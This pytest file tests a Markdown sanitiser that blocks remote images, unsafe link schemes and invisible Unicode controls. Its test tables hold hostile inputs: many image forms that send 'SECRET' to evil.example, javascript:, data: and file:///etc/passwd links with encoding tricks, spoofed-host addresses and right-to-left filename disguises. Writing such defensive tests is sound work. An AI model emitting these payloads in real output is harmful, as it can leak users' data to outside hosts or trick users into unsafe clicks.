"""The safe renderer (components/rendering.py): images, link schemes and control characters, table-driven.

Each output is read back with a CommonMark/GFM parser (markdown-it, every link allowed through) and also
scanned for an unescaped `![` outside code blocks, so a test fails if an image or an unsafe link a
browser could follow survives, whichever of the two readings finds it.
"""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from components.rendering import (
    image_is_trusted,
    label,
    link_is_safe,
    plain,
    safe_markdown,
    visible_controls,
)

EVIL = "http://evil.example/p.png?q=SECRET"


def reader() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    md.validateLink = lambda url: True
    return md


def inline_tokens(markdown: str):
    for token in reader().parse(markdown):
        yield from token.children or []


def images(markdown: str) -> list[str]:
    return [str(t.attrs["src"]) for t in inline_tokens(markdown) if t.type == "image"]


def links(markdown: str) -> list[str]:
    return [str(t.attrs["href"]) for t in inline_tokens(markdown) if t.type == "link_open"]


def unescaped_bangs_outside_code(markdown: str) -> list[str]:
    tokens = reader().parse(markdown)
    code = set()
    for token in tokens:
        if token.type in ("fence", "code_block"):
            code.update(range(*token.map))
    lines = [line for n, line in enumerate(markdown.splitlines()) if n not in code]
    return [line for line in lines if re.search(r"(?<!\\)(?:\\\\)*!\[", line)]


IMAGE_FORMS = {
    "inline": f"look ![chart]({EVIL}) here",
    "reference": f"![chart][r]\n\n[r]: {EVIL}",
    "collapsed reference": f"![r][]\n\n[r]: {EVIL}",
    "shortcut reference": f"![r]\n\n[r]: {EVIL}",
    "reference with title": f'![chart][r]\n\n[r]: {EVIL} "a title"',
    "nested in a link": f"[![chart]({EVIL})](https://ok.example/)",
    "in a table cell": f"| a | b |\n|---|---|\n| ![chart]({EVIL}) | x |",
    "angle brackets": "![chart](<http://evil.example/a b.png?q=SECRET>)",
    "upper-case scheme": "![chart](HTTP://EVIL.EXAMPLE/P.PNG?q=SECRET)",
    "with a title": f'![chart]({EVIL} "title")',
    "protocol-relative": "![chart](//evil.example/p.png?q=SECRET)",
    "image inside an image": f"![a ![b]({EVIL})](http://evil.example/outer.png)",
    "in a list item": f"- item\n\n    ![chart]({EVIL})",
    "in a blockquote": f"> ![chart]({EVIL})",
    "in a heading": f"# ![chart]({EVIL})",
    "after an escaped backslash": f"\\\\![chart]({EVIL})",
    "entity in the address": "![chart](http://evil&#46;example/p.png?q=SECRET)",
    "line break before the address": f"![chart](\n{EVIL}\n)",
    "unclosed code span before it": f"`tick ![chart]({EVIL})",
    "inside inline code (escaped anyway)": f"`![chart]({EVIL})`",
    "in emphasis": f"*![chart]({EVIL})*",
}


@pytest.mark.parametrize("form", sorted(IMAGE_FORMS))
def test_no_image_form_survives_the_renderer(form):
    out = safe_markdown(IMAGE_FORMS[form])
    assert images(out) == []
    assert unescaped_bangs_outside_code(out) == []


@pytest.mark.parametrize(
    "form",
    ["inline", "reference", "nested in a link", "in a table cell", "angle brackets", "with a title"],
)
def test_an_image_becomes_a_placeholder_naming_its_host_with_the_address_as_code(form):
    out = safe_markdown(IMAGE_FORMS[form])
    assert "image from evil\\.example" in out and "not loaded" in out
    assert re.search(r"`[^`]*evil\.example/[^`]*SECRET[^`]*`", out), out


def test_the_protocol_relative_and_upper_case_forms_name_their_host():
    assert "image from evil\\.example" in safe_markdown(IMAGE_FORMS["protocol-relative"])
    assert "image from evil\\.example" in safe_markdown(IMAGE_FORMS["upper-case scheme"])


def test_images_in_fenced_and_indented_code_stay_code_untouched():
    fenced = f"```markdown\n![chart]({EVIL})\n```"
    indented = f"para\n\n    ![chart]({EVIL})\n"
    assert safe_markdown(fenced) == fenced
    assert safe_markdown(indented) == indented


def test_raw_html_images_are_left_for_streamlit_to_escape_and_make_no_image_token():
    for html in (f'<img src="{EVIL}">', f'<picture><source srcset="{EVIL}"><img src="x"></picture>'):
        assert images(safe_markdown(html)) == []


def test_a_trusted_host_keeps_its_image_and_nothing_else_does():
    hosts = ["img.example"]
    assert images(safe_markdown("![ok](https://img.example/a.png)", hosts)) == ["https://img.example/a.png"]
    assert images(safe_markdown("![ok](http://img.example/a.png)", hosts)) == ["http://img.example/a.png"]
    assert images(safe_markdown(f"![no]({EVIL})", hosts)) == []
    assert images(safe_markdown("![no](https://sub.img.example/a.png)", hosts)) == []
    assert images(safe_markdown("![no](https://img.example.evil.example/a.png)", hosts)) == []
    assert images(safe_markdown("![no](https://img.example:8443/a.png)", hosts)) == []
    assert images(safe_markdown("![ok](https://img.example:443/a.png)", hosts)) != []
    assert images(safe_markdown("![ok](http://127.0.0.1:8443/a.png)", ["127.0.0.1:8443"])) != []


@pytest.mark.parametrize(
    "address",
    [
        "https://img.example@evil.example/a.png",
        "https://img.example\\@evil.example/a.png",
        "https://evil.example\\@img.example/a.png",
        "https://img.example&#64;evil.example/a.png",
        "ftp://img.example/a.png",
        "data:image/png;base64,AAAA",
        "//img.example/a.png",
        "https://img.example\u202e/a.png",
    ],
)
def test_tricky_addresses_never_count_as_a_trusted_host(address):
    assert not image_is_trusted(address, ["img.example"])


UNSAFE_LINKS = {
    "javascript": "javascript:alert(1)",
    "upper-case javascript": "JAVASCRIPT:alert(1)",
    "entity inside the scheme": "jav&#x61;script:alert(1)",
    "tab inside the scheme": "<java\tscript:alert(1)>",
    "leading space and entity tab": "<&#9;javascript:alert(1)>",
    "data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript": "VBScript:msgbox(1)",
    "file": "file:///etc/passwd",
    "mixed case file": "FiLe:///C:/secrets.txt",
    "backslash-escaped colon": "javascript\\:alert(1)",
}


@pytest.mark.parametrize("scheme", sorted(UNSAFE_LINKS))
def test_an_unsafe_link_scheme_is_shown_as_text(scheme):
    address = UNSAFE_LINKS[scheme]
    inline = safe_markdown(f"[click me]({address})")
    reference = safe_markdown(f"[click me][r]\n\n[r]: {address}")
    for out in (inline, reference):
        assert links(out) == [], out
        assert "click me" in out and "link not followed" in out


@pytest.mark.parametrize("scheme", ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd"])
def test_an_unsafe_autolink_is_shown_as_text(scheme):
    out = safe_markdown(f"<{scheme}>")
    assert links(out) == []
    assert "link not followed" in out


def test_safe_links_stay_clickable_and_show_their_real_host():
    out = safe_markdown("[your bank](https://evil.example/login)")
    assert links(out) == ["https://evil.example/login"]
    assert "(evil\\.example)" in out
    same = safe_markdown("[https://ok.example/](https://ok.example/)")
    assert links(same) == ["https://ok.example/"] and "(ok\\.example)" not in same
    assert links(safe_markdown("[mail](mailto:a@ok.example)")) == ["mailto:a@ok.example"]
    assert links(safe_markdown("[up](../notes#top)")) == ["../notes#top"]
    assert links(safe_markdown("<https://ok.example/x>")) == ["https://ok.example/x"]


@pytest.mark.parametrize(
    ("address", "safe"),
    [
        ("https://x.example", True),
        ("HTTP://x.example", True),
        ("mailto:a@x.example", True),
        ("/relative/path", True),
        ("#anchor", True),
        ("javascript:alert(1)", False),
        (" javascript:alert(1)", False),
        ("java\nscript:alert(1)", False),
        ("jav&#x09;ascript:alert(1)", False),
        ("data:text/html,x", False),
        ("vbscript:x", False),
        ("file:///etc/passwd", False),
        ("intent://x#Intent;end", False),
    ],
)
def test_link_is_safe_table(address, safe):
    assert link_is_safe(address) is safe


CONTROLS = {
    "U+202A left-to-right embedding": "\u202a",
    "U+202B right-to-left embedding": "\u202b",
    "U+202C pop directional formatting": "\u202c",
    "U+202D left-to-right override": "\u202d",
    "U+202E right-to-left override": "\u202e",
    "U+2066 left-to-right isolate": "\u2066",
    "U+2067 right-to-left isolate": "\u2067",
    "U+2068 first strong isolate": "\u2068",
    "U+2069 pop directional isolate": "\u2069",
    "U+200B zero width space": "\u200b",
    "U+200C zero width non-joiner": "\u200c",
    "U+200D zero width joiner": "\u200d",
    "U+200E left-to-right mark": "\u200e",
    "U+200F right-to-left mark": "\u200f",
    "U+FEFF byte order mark": "\ufeff",
}


@pytest.mark.parametrize("name", sorted(CONTROLS))
def test_a_control_character_in_a_name_is_shown_escaped(name):
    char = CONTROLS[name]
    code = f"<U+{ord(char):04X}>"
    assert plain(f"invoice{char}gpj.exe") == f"invoice{code}gpj.exe"
    assert char not in label(f"invoice{char}gpj.exe")
    assert label(f"invoice{char}gpj.exe").replace("\\", "") == f"invoice{code}gpj.exe"


@pytest.mark.parametrize("name", sorted(CONTROLS))
def test_a_control_character_cannot_disguise_a_link_but_stays_in_message_text(name):
    char = CONTROLS[name]
    code = f"<U+{ord(char):04X}>"
    out = safe_markdown(
        f"plain{char}text [pay{char}moc.knab](https://evil.example/{char}x) https://e.example/{char}y"
    )
    assert f"plain{char}text" in out, "ordinary message text keeps its characters"
    assert f"pay{code}moc.knab" in out
    assert all(char not in href for href in links(out))
    assert f"https://e.example/{code}y" in out


def test_visible_controls_leaves_ordinary_text_alone():
    assert visible_controls("Grüße, שלום, 你好") == "Grüße, שלום, 你好"


def test_a_label_is_literal_markdown():
    shown = label(f"![x]({EVIL}) **bold** :red[x] [l](javascript:x)")
    assert images(shown) == [] and links(shown) == []
    assert "**" not in shown.replace("\\*", "")


def test_ordinary_markdown_is_kept():
    text = "# Title\n\n**bold** and `code` and a [link](https://ok.example/) in a list:\n\n- one\n- two\n"
    out = safe_markdown(text)
    assert out.startswith("# Title\n\n**bold** and `code`")
    assert "- one\n- two" in out


def test_a_long_reply_full_of_brackets_is_rendered_quickly_and_safely():
    text = "[" * 20_000 + f"![x]({EVIL})" + "]" * 20_000
    out = safe_markdown(text)
    assert images(out) == []
